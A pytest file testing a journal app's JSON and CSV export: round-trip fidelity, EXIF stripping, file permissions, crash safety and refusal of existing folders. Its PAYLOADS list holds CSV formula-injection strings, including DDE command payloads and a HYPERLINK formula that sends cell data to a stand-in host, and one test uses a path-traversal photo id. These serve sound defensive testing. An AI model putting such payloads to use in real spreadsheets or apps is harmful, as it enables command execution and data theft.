"""A journal leaves as files that open without it: all of it, bare, and whole or not at all."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os
import re
import resource
import signal
import stat
import subprocess
import sys
import tempfile
import tracemalloc
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import get_args

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from PIL import Image

from app.core.errors import NoRoomError
from app.core.exchange.leaving import FORMS, Exported, Form
from app.core.exchange.record import from_json
from app.core.glimmers import Draft, Glimmer
from app.core.photo_formats import without_metadata
from app.core.photos import Photo, PhotoId, Picture
from app.core.when.grammar import understand
from app.core.when.times import at_moment
from app.words.leaving import leaving
from storage.exchange.as_csv import COLUMNS, GUARDED, as_written, guarded
from storage.exchange.leaving import export
from storage.exchange.new_folder import NewFolderError
from storage.journal import Journal
from storage.opening import open_in_folder
from storage.photos import in_folder
from storage.vault import DATABASE
from tests.made_photos import jpeg
from tests.told import sentence

ROOT = Path(__file__).parents[2]
NOW = datetime(2026, 11, 22, 18, 42, 7, tzinfo=UTC)
PLAIN = without_metadata(jpeg((64, 48)), plain_head=True) or b""
_VALIDATOR = Draft202012Validator(
    json.loads((ROOT / "docs" / "glimmer.schema.json").read_text(encoding="utf-8"))
)
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-",
    "- a walk\n- a song",
    "+49 30 1234",
    "@Noor was here",
    "'=1+1",
    "x;=cmd|' /C calc'!A0;y",
    "x;-1+cmd|' /C calc'!A0",
    "bread\t=1+1",
    "bread\n=1+1",
    "bread;'=1+1; \t +1",
)
"""What spreadsheets are known to calculate, and plain words that begin as it does."""
HARMLESS = (
    "a=b",
    "1-2",
    "thanks ;-)",
    "bread;\n- milk\n-- \n",
    "a, =b",
    "me@home",
    "",
    "“=1”",
    "🌻 +1",
    "؀-1",
    "…-",
)
WORDS = (
    *PAYLOADS,
    *HARMLESS,
    'quo"te, comma; semicolon\r\nand line',
    "مطر على السقف",
    "雨が屋根に\n落ちる",
    "🌻👩‍👩‍👧" * 30,
    "\x0b\x1b[31m\u2028 odd",
    "x" * 90_000,
)


class Home:
    """A journal in a folder, with photos."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.journal = open_in_folder(folder, now=NOW)
        self.photos = in_folder(folder)
        self._minute = 0

    def put(self, content: bytes) -> Photo:
        size = Image.open(io.BytesIO(content)).size
        picture = Picture(display=content, thumbnail=PLAIN, width=size[0], height=size[1])
        return picture.stored_as(asyncio.run(self.photos.put(picture)))

    def keep(
        self, note: str = "", *photos: bytes, when: str | None = None, **names: tuple[str, ...]
    ) -> Glimmer:
        self._minute += 1
        at = NOW + timedelta(minutes=self._minute)
        time_ = understand(when, now=at) if when else at_moment(at, zone="UTC")
        draft = Draft(when=time_, note=note, **names)  # type: ignore[arg-type]
        return self.journal.keep(draft, at=at, photos=[self.put(each) for each in photos])

    def export(self, path: Path, form: Form, **how: object) -> Exported | None:
        with closing(Journal.read(self.folder / DATABASE)) as reading:
            return export(
                reading,
                self.photos,
                path,
                form,
                home=self.folder,
                wording=leaving.wording(form, NOW.date()),
                **how,  # type: ignore[arg-type]
            )


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Home]:
    made = Home(tmp_path / "journal")
    yield made
    made.journal.close()


def rows(folder: Path) -> list[dict[str, str]]:
    with (folder / "glimmers.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def restored(row: dict[str, str]) -> dict[str, str]:
    """What the file says of itself: without the apostrophes that nobody wrote."""
    return {**row, **{name: as_written(row[name]) for name in row[GUARDED].split()}}


# JSON ---------------------------------------------------------------------------------------------


def test_every_record_comes_back_as_it_was(home, tmp_path):
    for words in WORDS:
        home.keep(words, people=("Ana", "إيلاف"), tags=("slow days",))
    for when in ("summer 2004", "as a child", "14 March 2019", "about 1987", "the 90s"):
        home.keep(when, when=when)
    home.keep("by the lake", PLAIN, jpeg((20, 90)))

    exported = home.export(tmp_path / "out", "json")

    data = json.loads((tmp_path / "out" / "glimmers.json").read_text(encoding="utf-8"))
    kept = home.journal.page(limit=1000)
    assert [from_json(each) for each in data] == home.journal.records.of([g.id for g in kept])
    assert [error for each in data for error in _VALIDATOR.iter_errors(each)] == []
    assert exported == Exported(glimmers=len(kept), photos=2)


def test_the_file_of_a_photo_is_its_id_and_byte_for_byte(home, tmp_path):
    glimmer = home.keep("", PLAIN)

    home.export(tmp_path / "out", "json")

    (photo,) = home.journal.parts([glimmer.id])[glimmer.id].photos
    content = (tmp_path / "out" / "photos" / f"{photo.photo.id}.jpg").read_bytes()
    assert content == PLAIN
    assert hashlib.sha256(content).hexdigest() == photo.photo.id


def test_an_empty_journal_is_an_empty_list(home, tmp_path):
    assert home.export(tmp_path / "out", "json") == Exported()

    assert json.loads((tmp_path / "out" / "glimmers.json").read_text()) == []


# CSV ----------------------------------------------------------------------------------------------


def test_a_table_has_all_that_is_printed_and_gives_each_word_back(home, tmp_path):
    for words in WORDS:
        home.keep(words, people=("=Ana", "Ben"), places=("@home",), tags=("-", "b"))

    home.export(tmp_path / "out", "csv")

    found = [restored(row) for row in rows(tmp_path / "out")]
    kept = home.journal.page(limit=1000)
    assert [row["note"] for row in found] == [glimmer.note for glimmer in kept]
    assert [row["id"] for row in found] == [glimmer.id for glimmer in kept]
    assert {row["people"] for row in found} == {"=Ana\nBen"}
    assert {row["tags"] for row in found} == {"-\nb"}
    assert list(found[0]) == list(COLUMNS)


def test_no_cell_is_calculated(home, tmp_path):
    for words in PAYLOADS:
        home.keep(words, people=("=Ana",), when=f"free:{words}" if words.strip() == words else None)

    home.export(tmp_path / "out", "csv")

    cells = [cell for row in rows(tmp_path / "out") for cell in row.values()]
    unseen = "\ufeff\u200b \t\r\n"
    assert [cell for cell in cells if re.match(f"[{unseen}]*[=+@＝＋－＠-]", cell)] == []
    assert [cell for cell in cells if cell[:1] in ("\t", "\r", "\n")] == []
    assert len([cell for cell in cells if cell.startswith("'")]) >= 2 * len(PAYLOADS)


@pytest.mark.parametrize("words", HARMLESS)
def test_what_is_not_calculated_stays_as_it_is(words):
    assert guarded(words) == words


_SIGNS = st.text(st.sampled_from("=+-@\uff1d;\t\r\n '\"a1(\u200b,|"), max_size=14)


@settings(max_examples=500, deadline=None)
@given(_SIGNS)
def test_whatever_parts_the_cells_nothing_is_calculated_and_no_word_is_lost(words):
    cell = guarded(words)

    assert as_written(cell) == words
    for piece in re.split("[;\t\r\n]", cell):
        begins = piece.lstrip("\u200b ")
        assert begins[:1] not in tuple("=+@\uff1d"), repr(cell)
        assert not re.match(r"-[\w(]", begins), repr(cell)
    assert cell.lstrip("\u200b ")[:1] != "-"


def test_lines_end_as_rfc_4180_has_it(home, tmp_path):
    home.keep("one\ntwo")

    home.export(tmp_path / "out", "csv")

    content = (tmp_path / "out" / "glimmers.csv").read_bytes()
    assert content.startswith(b'"id","note",')
    assert content.endswith(b'"\r\n')
    assert content.count(b"\r\n") == 2
    assert b'"one\ntwo"' in content


def test_photos_of_a_row_are_lines_in_their_order(home, tmp_path):
    glimmer = home.keep("", jpeg((20, 30)), jpeg((40, 30)))
    photos = home.journal.parts([glimmer.id])[glimmer.id].photos
    home.journal.photos.describe(
        glimmer.id, photos[1].photo.id, "a heron,\nasleep", at=NOW + timedelta(hours=1)
    )

    home.export(tmp_path / "out", "csv")

    row = restored(rows(tmp_path / "out")[0])
    assert row["photos"].split("\n") == [f"photos/{each.photo.id}.jpg" for each in photos]
    assert row["photo_sizes"] == "20x30\n40x30"
    assert row["photo_descriptions"] == "\na heron, asleep"
    assert all((tmp_path / "out" / name).is_file() for name in row["photos"].split("\n"))


# Any form -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMS)
def test_what_is_in_the_bin_stays_there(home, tmp_path, form):
    home.keep("stays")
    gone = home.keep("Zitronenfalter", jpeg((30, 31)))
    home.journal.remove(gone.id, at=NOW + timedelta(hours=1))

    exported = home.export(tmp_path / "out", form)

    assert exported == Exported(glimmers=1)
    files = [path for path in (tmp_path / "out").rglob("*") if path.is_file()]
    assert [path for path in files if b"Zitronenfalter" in path.read_bytes()] == []
    assert not (tmp_path / "out" / "photos").exists()


@pytest.mark.parametrize("form", FORMS)
def test_a_photo_is_bare_whoever_stored_it(home, tmp_path, form):
    """A file that another program has put there may say where and with what it was taken."""
    telling = jpeg((50, 40), taken="2019:03:14 10:20:30")
    assert b"Exif" in telling
    home.keep("", telling + b"film behind the end")

    home.export(tmp_path / "out", form)

    photos = list((tmp_path / "out" / "photos").rglob("*.jpg"))
    assert photos
    for path in photos:
        with Image.open(path) as picture:
            picture.load()
            assert dict(picture.getexif()) == {}
        assert b"film" not in path.read_bytes()


@pytest.mark.parametrize("form", FORMS)
def test_a_photo_that_cannot_be_read_is_told_and_the_rest_is_there(home, tmp_path, form):
    torn, gone, whole = home.put(jpeg((8, 9))), home.put(jpeg((9, 8))), home.put(PLAIN)
    at = NOW + timedelta(hours=1)
    home.journal.keep(
        Draft(when=at_moment(at, zone="UTC"), note="three"), at=at, photos=[torn, gone, whole]
    )
    home.journal.keep(Draft(when=at_moment(at, zone="UTC"), note="again"), at=at, photos=[gone])
    home.photos.path(torn.id).write_bytes(PLAIN[:-2])
    home.photos.path(gone.id).unlink()

    exported = home.export(tmp_path / "out", form)

    assert exported == Exported(glimmers=2, photos=1, missing=2)
    read_me = (tmp_path / "out" / leaving.READ_ME).read_text(encoding="utf-8")
    assert "2 photos could not be read" in read_me


@pytest.mark.parametrize("form", FORMS)
def test_finished_collages_come_along(home, tmp_path, form):
    picture = home.put(jpeg((70, 70)))
    home.journal.collages.keep({}, picture.id, at=NOW)

    exported = home.export(tmp_path / "out", form)

    assert exported == Exported(collages=1)
    (file,) = (tmp_path / "out" / "collages").iterdir()
    assert file.name == f"2026-11-22-{picture.id[:16]}.jpg"


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.skipif(os.name != "posix", reason="modes")
def test_all_of_it_is_for_its_owner_only(home, tmp_path, form):
    os.umask(0o022)
    home.keep("rain", PLAIN, when="summer 2004")

    home.export(tmp_path / "out", form)

    found = [tmp_path / "out", *(tmp_path / "out").rglob("*")]
    modes = {(path.is_dir(), stat.S_IMODE(path.stat().st_mode)) for path in found}
    assert modes == {(True, 0o700), (False, 0o600)}


def test_the_read_me_says_what_there_is_and_what_is_not(home, tmp_path):
    home.keep("rain", PLAIN)

    for form in FORMS:
        home.export(tmp_path / form, form)

        text = (tmp_path / form / leaving.READ_ME).read_text(encoding="utf-8")
        assert "22 November 2026: 1 glimmer, 1 photo." in text
        assert "What is in the bin is not in here" in text
    assert GUARDED in (tmp_path / "csv" / leaving.READ_ME).read_text(encoding="utf-8")


def test_every_form_can_be_asked_for():
    assert get_args(Form) == FORMS


# Where it goes ------------------------------------------------------------------------------------


def test_what_is_there_already_is_not_touched(home, tmp_path):
    home.keep("rain")
    (tmp_path / "folder").mkdir()
    (tmp_path / "file").write_text("mine")
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")

    for name in ("folder", "file", "link"):
        with pytest.raises(NewFolderError) as refused:
            home.export(tmp_path / name, "json")
        assert "is there already. It was not touched." in sentence(refused.value)

    assert (tmp_path / "file").read_text() == "mine"
    assert list((tmp_path / "folder").iterdir()) == []
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "folder", "journal", "link"]


@pytest.mark.parametrize(
    ("path", "why"),
    [("nowhere/out", "no folder"), ("file/out", "file as folder"), ("journal/out", "in journal")],
)
def test_it_needs_a_folder_that_is_not_the_journals(home, tmp_path, path, why):
    (tmp_path / "file").write_text("mine")

    with pytest.raises(NewFolderError) as refused:
        home.export(tmp_path / path, "json")

    assert refused.value.why == why


def test_a_way_round_into_the_journals_folder_is_seen(home, tmp_path):
    (tmp_path / "link").symlink_to(home.folder)

    with pytest.raises(NewFolderError) as refused:
        home.export(tmp_path / "link" / "out", "json")

    assert refused.value.why == "in journal"


def test_stopped_nothing_of_it_stays(home, tmp_path):
    for number in range(5):
        home.keep(str(number), jpeg((20 + number, 20)))
    told: list[tuple[int, int]] = []

    def until_the_third(done: int, total: int) -> bool:
        told.append((done, total))
        return done < 3

    assert home.export(tmp_path / "out", "json", progress=until_the_third) is None
    assert told == [(0, 5), (1, 5), (2, 5), (3, 5)]
    assert [path.name for path in tmp_path.iterdir()] == ["journal"]


def test_what_took_the_name_meanwhile_is_not_touched(home, tmp_path):
    home.keep("rain")

    def takes_the_name(_done: int, _total: int) -> bool:
        (tmp_path / "out").mkdir(exist_ok=True)
        return True

    with pytest.raises(NewFolderError):
        home.export(tmp_path / "out", "json", progress=takes_the_name)

    assert list((tmp_path / "out").iterdir()) == []
    assert sorted(path.name for path in tmp_path.iterdir()) == ["journal", "out"]


def test_it_is_one_state_while_others_keep_and_erase(home, tmp_path):
    first = home.keep("first")
    for number in range(130):
        home.keep(f"note {number}")
    other = open_in_folder(home.folder, now=NOW)

    def meanwhile(done: int, _total: int) -> bool:
        if done == 1:
            at = NOW + timedelta(days=1)
            other.keep(Draft(when=at_moment(at, zone="UTC"), note="later"), at=at)
            other.erase(first.id, at=at)
        return True

    try:
        exported = home.export(tmp_path / "out", "json", progress=meanwhile)
        assert other.count() == 131
    finally:
        other.close()

    notes = [each["note"] for each in json.loads((tmp_path / "out/glimmers.json").read_bytes())]
    assert exported == Exported(glimmers=131)
    assert notes[-1] == "first"
    assert "later" not in notes


_KILLED = """
import os, signal, sys
from datetime import date
from pathlib import Path
from app.words.leaving import leaving
from storage.exchange.leaving import export
from storage.journal import Journal
from storage.photos import in_folder

home, out, form, last = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], int(sys.argv[4])

def progress(done, total):
    if done == last:
        os.kill(os.getpid(), signal.SIGKILL)
    return True

journal = Journal.read(home / "glimmers.db")
wording = leaving.wording(form, date(2026, 11, 22))
export(journal, in_folder(home), out, form, home=home, wording=wording, progress=progress)
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="kill -9")
@pytest.mark.parametrize(("form", "last"), [(form, last) for form in FORMS for last in (1, 4)])
def test_killed_nothing_has_the_name_and_the_next_one_clears_up(home, tmp_path, form, last):
    for number in range(4):
        home.keep(str(number), jpeg((20 + number, 20)), when=f"{number + 1} March 2019")
    out = tmp_path / "out"

    done = subprocess.run(
        [sys.executable, "-c", _KILLED, str(home.folder), str(out), form, str(last)], cwd=ROOT
    )

    assert done.returncode == -signal.SIGKILL
    left = [path.name for path in tmp_path.iterdir() if path.name != "journal"]
    assert len(left) == 1
    assert left[0].startswith(".glimmers-")
    assert home.export(out, form) == Exported(glimmers=4, photos=4)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["journal", "out"]


def test_what_another_is_writing_there_is_let_be(home, tmp_path):
    home.keep("rain")

    def another(done: int, _total: int) -> bool:
        if done == 0:
            assert home.export(tmp_path / "second", "csv") == Exported(glimmers=1)
        return True

    assert home.export(tmp_path / "first", "json", progress=another) == Exported(glimmers=1)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["first", "journal", "second"]


@pytest.mark.parametrize("form", FORMS)
def test_where_there_is_no_room_nothing_of_it_stays(home, tmp_path, form):
    for number in range(40):
        home.keep(f"{number} " * 400, when="14 March 2019")
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    ignored = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, before[1]))
    try:
        with pytest.raises(NoRoomError) as refused:
            home.export(tmp_path / "out", form)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
        signal.signal(signal.SIGXFSZ, ignored)

    assert "your glimmers could not be written there" in sentence(refused.value)
    assert [path.name for path in tmp_path.iterdir()] == ["journal"]


@pytest.mark.parametrize("form", FORMS)
def test_memory_does_not_grow_with_the_journal(tmp_path, form):
    def peak(count: int) -> int:
        journal = Journal.in_memory()
        for number in range(count):
            at = NOW + timedelta(minutes=number)
            draft = Draft(when=at_moment(at, zone="UTC"), note=f"{number} " * 60)
            journal.keep(draft, at=at)
        tracemalloc.start()
        export(
            journal,
            in_folder(tmp_path),
            Path(tempfile.mkdtemp(dir=tmp_path)) / "out",
            form,
            home=tmp_path / "journal",
            wording=leaving.wording(form, NOW.date()),
        )
        highest = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        journal.close()
        return highest

    small = peak(500)

    # 2,500 records are 10 MB. Python's own table of names may double meanwhile, once.
    assert any(peak(3000) - small < 250_000 for _ in range(2))


def test_photo_ids_that_lead_elsewhere_lead_nowhere(home, tmp_path):
    """Of a journal that another has made: an id is part of a path."""
    glimmer = home.keep("rain")
    secret = tmp_path / "secret.jpg"
    secret.write_bytes(PLAIN)
    odd = Photo(id=PhotoId("../../secret"), width=1, height=1, media_type="image/jpeg", size=1)
    home.journal.photos.attach(glimmer.id, [odd], at=NOW + timedelta(hours=1))

    assert home.export(tmp_path / "out", "json") == Exported(glimmers=1, missing=1)
    assert [path.name for path in (tmp_path / "out").rglob("*.jpg")] == []
